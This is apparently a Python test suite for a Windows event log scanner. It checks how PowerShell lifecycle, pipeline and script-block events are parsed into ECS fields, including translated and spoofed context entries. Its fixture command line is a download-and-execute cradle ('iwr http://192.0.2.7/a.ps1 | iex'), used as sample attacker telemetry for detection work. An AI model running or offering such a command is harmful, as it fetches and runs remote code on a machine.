r"""PowerShell's events, worked out by hand: most of their values stand inside one text, and users write part of it.

The context texts have the form that PowerShell 5.1 writes; the values are made up.
"""

from __future__ import annotations

from typing import Any

import pytest

from evtxscan.ecs import powershell
from evtxscan.ecs.resolve import Absent, Data, Derived
from tests.ecs.stored import Stored, event_json, store
from tests.ecs.test_documents import ALICE, BASE, system

CLASSIC, OPERATIONAL = "Windows PowerShell", "Microsoft-Windows-PowerShell/Operational"
LINE = r'powershell.exe -NoP -c "iwr http://192.0.2.7/a.ps1 | iex"'
RUNSPACE, HOST, BLOCK = (f"{letter * 8}-0000-4000-8000-000000000001" for letter in "abc")
HOST_FIELDS = {
    "event.category": ["process"],
    "powershell.engine.version": "5.1.19041.1",
    "powershell.process.executable_version": "5.1.19041.2",
    "powershell.runspace_id": RUNSPACE,
    "process.args": ["powershell.exe", "-NoP", "-c", "iwr http://192.0.2.7/a.ps1 | iex"],
    "process.args_count": 4,
    "process.command_line": LINE,
    "process.entity_id": HOST,
    "process.title": "ConsoleHost",
}


def classic(code: int, *values: str) -> Stored:
    head = {"Keywords": "0x80000000000000", "Level": 4, "Task": 4, "Execution": None, "Version": None}
    return store(
        [event_json(system("PowerShell", code, CLASSIC, **head), EventData={"Data": {"#text": list(values)}})]
    )[0]


def operational(code: int, data: dict[str, object]) -> Stored:
    head = {"Keywords": "0x0", "Level": 5, "Version": 1, "Security": {"#attributes": {"UserID": ALICE}}, "Task": 2}
    return store([event_json(system("Microsoft-Windows-PowerShell", code, OPERATIONAL, **head), EventData=data)])[0]


def beyond_base(stored: Stored) -> dict[str, Any]:
    return {name: value for name, value in stored.document.items() if name not in BASE}


def details(first: str, last: str, *, line: str = LINE, sequence: int = 13) -> str:
    """Return the third text of a lifecycle event, with CRLF as it is recorded."""
    host = (
        f"\tHostName=ConsoleHost\n\tHostVersion=5.1.19041.2\n\tHostId={HOST}\n\tHostApplication={line}\n"
        f"\tEngineVersion=5.1.19041.1\n\tRunspaceId={RUNSPACE}\n"
    )
    return f"{first}\n\n\tSequenceNumber={sequence}\n\n{host}\tPipelineId=\n{last}".replace("\n", "\r\n")


def context(*, connected: str = "", user: str = r"CORP\alice") -> str:
    entries = {
        "Severity": "Informational",
        "Host Name": "ConsoleHost",
        "Host Version": "5.1.19041.2",
        "Host ID": HOST,
        "Host Application": LINE,
        "Engine Version": "5.1.19041.1",
        "Runspace ID": RUNSPACE,
        "Pipeline ID": "7",
        "Command Name": "Invoke-WebRequest",
        "Command Type": "Cmdlet",
        "Script Name": r"C:\Users\alice\stage one.ps1",
        "Command Path": "",
        "Sequence Number": "18",
        "User": user,
        "Connected User": connected,
        "Shell ID": "Microsoft.PowerShell",
    }
    return "".join(f"        {name} = {value}\r\n" for name, value in entries.items())


def test_engine_start() -> None:
    tail = "\tCommandName=\n\tCommandType=\n\tScriptName=\n\tCommandPath=\n\tCommandLine="
    stored = classic(400, "Available", "None", details("\tNewEngineState=Available\n\tPreviousEngineState=None", tail))
    assert beyond_base(stored) == {
        **HOST_FIELDS,
        "event.action": "Engine Lifecycle",
        "event.sequence": 13,
        "event.type": ["start"],
        "powershell.engine.new_state": "Available",
        "powershell.engine.previous_state": "None",
    }
    assert stored.document["event.module"] == "powershell"
    assert stored.document["winlog.record_id"] == "271828"


@pytest.mark.parametrize(("code", "type_"), [(403, "end"), (500, "info"), (501, "info"), (600, "info"), (800, "info")])
def test_types_of_the_classic_log(code: int, type_: str) -> None:
    found = classic(code, "a", details("", ""), "").document
    assert (found["event.category"], found["event.type"]) == (["process"], [type_])


def test_command_and_provider_state() -> None:
    tail = "\tCommandName=Get-Item\n\tCommandType=Cmdlet\n\tScriptName=\n\tCommandPath=C:\\m.psm1\n\tCommandLine=gi ."
    command = classic(500, "Get-Item", "Started", details("\tNewCommandState=Started", tail)).document
    assert command["winlog.event_data.NewCommandState"] == "Started"
    assert command["powershell.command.name"] == "Get-Item"
    assert command["powershell.command.type"] == "Cmdlet"
    assert command["powershell.command.path"] == "C:\\m.psm1"
    assert command["powershell.command.value"] == "gi ."
    provider = classic(600, "x", "y", details("\tProviderName=Registry\n\tNewProviderState=Started", tail)).document
    assert provider["powershell.provider.name"] == "Registry"
    assert provider["powershell.provider.new_state"] == "Started"
    assert not [name for name in provider if name.startswith("winlog.event_data.")]


def test_pipeline_of_the_classic_log() -> None:
    first = "\tDetailSequence=1\n\tDetailTotal=2"
    tail = "\tScriptName=D:\\x\\mod.psm1\n\tUserId=CORP\\alice\n\tCommandLine=    Add-Type -A b\n\tHostId=not one"
    lines = 'CommandInvocation(Add-Type): "Add-Type"\r\nParameterBinding(Add-Type): name="A"; value="b"\r\n'
    assert beyond_base(classic(800, "    Add-Type -A b", details(first, tail), lines)) == {
        **HOST_FIELDS,
        "event.action": "Engine Lifecycle",
        "event.sequence": 13,
        "event.type": ["info"],
        "file.directory": "D:\\x",
        "file.extension": "psm1",
        "file.name": "mod.psm1",
        "file.path": "D:\\x\\mod.psm1",
        "powershell.command.invocation_details": [
            {"type": "CommandInvocation", "related_command": "Add-Type", "value": '"Add-Type"'},
            {"type": "ParameterBinding", "related_command": "Add-Type", "name": '"A"', "value": '"b"'},
        ],
        "powershell.command.value": "    Add-Type -A b\n\tHostId=not one",
        "powershell.sequence": 1,
        "powershell.total": 2,
        "related.user": ["alice"],
        "user.domain": "CORP",
        "user.name": "alice",
    }


def test_pipeline_of_the_operational_log() -> None:
    data = {"ContextInfo": context(), "UserData": "", "Payload": 'CommandInvocation(iwr): "iwr"\r\n'}
    assert beyond_base(operational(4103, data)) == {
        **HOST_FIELDS,
        "event.action": "Execute a Remote Command",
        "event.sequence": 18,
        "event.type": ["info"],
        "file.directory": "C:\\Users\\alice",
        "file.extension": "ps1",
        "file.name": "stage one.ps1",
        "file.path": "C:\\Users\\alice\\stage one.ps1",
        "powershell.command.invocation_details": [
            {"type": "CommandInvocation", "related_command": "iwr", "value": '"iwr"'}
        ],
        "powershell.command.name": "Invoke-WebRequest",
        "powershell.command.type": "Cmdlet",
        "powershell.id": "Microsoft.PowerShell",
        "powershell.pipeline_id": "7",
        "related.user": ["alice"],
        "user.domain": "CORP",
        "user.id": ALICE,
        "user.name": "alice",
    }


def test_remote_user_is_the_user() -> None:
    """Who is connected is user.* and source.user.*; whose account runs the command is destination.user.*."""
    data = {"ContextInfo": context(connected=r"LAB\bob", user=r"CORP\svc"), "Payload": ""}
    found = operational(4103, data).document
    users = {name: value for name, value in found.items() if "user" in name and not name.startswith("winlog.")}
    assert users == {
        "destination.user.domain": "CORP",
        "destination.user.name": "svc",
        "related.user": ["svc", "bob"],
        "source.user.domain": "LAB",
        "source.user.name": "bob",
        "user.domain": "LAB",
        "user.id": ALICE,
        "user.name": "bob",
    }


def test_script_block() -> None:
    script = "function x {\r\n  'y'\r\n}" * 5000
    data = {
        "MessageNumber": 2,
        "MessageTotal": 3,
        "ScriptBlockText": script,
        "ScriptBlockId": BLOCK,
        "Path": "C:\\a\\b.ps1",
    }
    stored = operational(4104, data)
    assert beyond_base(stored) == {
        "event.action": "Execute a Remote Command",
        "event.category": ["process"],
        "event.type": ["info"],
        "file.directory": "C:\\a",
        "file.extension": "ps1",
        "file.name": "b.ps1",
        "file.path": "C:\\a\\b.ps1",
        "powershell.file.script_block_id": BLOCK,
        "powershell.file.script_block_text": script.replace("\r\n", "\n"),
        "powershell.sequence": 2,
        "powershell.total": 3,
        "user.id": ALICE,
    }
    assert not [cell for cell in stored.row.values() if isinstance(cell, str) and "function" in cell]


def test_number_of_a_part_that_is_none() -> None:
    found = operational(4104, {"MessageNumber": "two", "ScriptBlockId": BLOCK}).document
    assert "powershell.sequence" not in found
    assert found["winlog.event_data.MessageNumber"] == "two"


@pytest.mark.parametrize(("code", "type_"), [(4105, "start"), (4106, "end")])
def test_script_block_runs(code: int, type_: str) -> None:
    assert beyond_base(operational(code, {"ScriptBlockId": BLOCK, "RunspaceId": RUNSPACE})) == {
        "event.action": "Execute a Remote Command",
        "event.category": ["process"],
        "event.type": [type_],
        "powershell.file.script_block_id": BLOCK,
        "powershell.runspace_id": RUNSPACE,
        "user.id": ALICE,
    }


def test_where_a_query_finds_what_is_in_the_data() -> None:
    block = operational(4104, {"ScriptBlockText": "x"})
    text = Data(("event_data", "ScriptBlockText"))
    assert block.mapping.resolve(block.kind, "powershell.file.script_block_text") == text
    assert block.mapping.resolve(block.kind, "winlog.event_data.ScriptBlockText") == Absent()
    engine = classic(400, "", "", "")
    args = engine.mapping.resolve(engine.kind, "process.args")
    assert isinstance(args, Derived)
    assert args.inputs == (("event_data", "param3"),)
    assert args.fn("\tHostApplication=a b\n") == ("a", "b")
    assert args.fn(None) == ()


GERMAN = (
    "Schweregrad", "Hostname", "Hostversion", "Host-ID", "Hostanwendung", "Modulversion", "Runspace-ID", "Pipeline-ID",
    "Befehlsname", "Befehlstyp", "Skriptname", "Befehlspfad", "Sequenznummer", "Benutzer", "Verbundener Benutzer",
    "Shell-ID",
)  # fmt: skip
FRENCH = (
    "Gravité", "Nom d'hôte", "Version de l'hôte", "ID d'hôte", "Application hôte", "Version du moteur", "ID d'instance",
    "ID de pipeline", "Nom de commande", "Type de commande", "Nom de script", "Chemin de commande",
    "Numéro de séquence", "Utilisateur", "Utilisateur connecté", "ID de shell",
)  # fmt: skip


def translated(keys: tuple[str, ...], text: str) -> str:
    """Return a context with these keys instead of the English ones."""
    values = [line.partition(" = ")[2] for line in text.split("\r\n")[:-1]]
    return "".join(f"        {key} = {value}\r\n" for key, value in zip(keys, values, strict=True))


@pytest.mark.parametrize("keys", [GERMAN, FRENCH], ids=["German", "French"])
def test_context_in_another_language(keys: tuple[str, ...]) -> None:
    """The entries are where they are in English, and nothing else is made of them."""
    found = operational(4103, {"ContextInfo": translated(keys, context()), "Payload": "x"}).document
    assert found == operational(4103, {"ContextInfo": context(), "Payload": "x"}).document


@pytest.mark.parametrize(
    "text",
    [
        translated(GERMAN, context()).replace("        Befehlspfad = \r\n", ""),
        translated(GERMAN, context()) + "        Neu = 1\r\n",
        translated(GERMAN, context()).replace("iex", "iex\r\n        Benutzer = CORP\\admin"),
        translated(GERMAN, context()).replace("Sequenznummer = 18", "Sequenznummer = achtzehn"),
        translated((*GERMAN[:3], GERMAN[4], GERMAN[3], *GERMAN[5:]), context()).replace(HOST, "no GUID"),
        "no context",
    ],
    ids=["one too few", "one too many", "a line that a user typed", "no number", "no GUID", "no entry"],
)
def test_context_that_cannot_be_read_is_shown(text: str) -> None:
    """Catches a value put under a wrong name, and a context that vanishes because nothing was read of it."""
    found = operational(4103, {"ContextInfo": text, "Payload": "x"}).document
    assert found["winlog.event_data.ContextInfo"] == text.replace("\r\n", "\n").rstrip("\n")
    assert not [name for name in found if name.startswith(("process.", "file.", "user.name", "powershell.pipeline"))]


def test_details_that_cannot_be_read_are_shown() -> None:
    assert classic(400, "a", "b", "no details").document["winlog.event_data.param3"] == "no details"
    assert classic(800, "a", "no details", "x").document["winlog.event_data.param2"] == "no details"


def test_lines_of_a_command_line_are_not_entries() -> None:
    """A command line may hold line ends and text that looks like an entry; neither may hide or replace a value."""
    text = (
        "\tHostApplication=powershell -c one\ntwo = 2\n  three\n\tEngineVersion=6.6.6 }\n\tEngineVersion=5.1\n\tfoo=bar"
    )
    assert powershell.context(text) == {
        "HostApplication": ("powershell -c one\ntwo = 2\n  three",),
        "EngineVersion": ("6.6.6 }", "5.1\n\tfoo=bar"),
    }
    tail = "\tCommandLine=\n"
    doubled = classic(400, "a", "b", details("", tail, line="x\r\n\tEngineVersion=1")).document
    assert doubled["powershell.engine.version"] == ["1", "5.1.19041.1"]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('NonTerminatingError(A): "x"', {"type": "NonTerminatingError", "related_command": "A", "value": '"x"'}),
        (
            'ParameterBinding(A): name="B"; value="if (c): d"',
            {"type": "ParameterBinding", "related_command": "A", "name": '"B"', "value": '"if (c): d"'},
        ),
        ("CommandInvocation(A):", {"type": "CommandInvocation", "related_command": "A"}),
        ("ParameterBinding(A): odd", {"value": "odd"}),
        ("ParameterBinding(A):", {"value": "ParameterBinding(A):"}),
        ("second line of a value", {"value": "second line of a value"}),
        ("", {"value": ""}),
    ],
)
def test_details_in_other_forms(line: str, expected: dict[str, str]) -> None:
    assert powershell.details(line) == [expected]
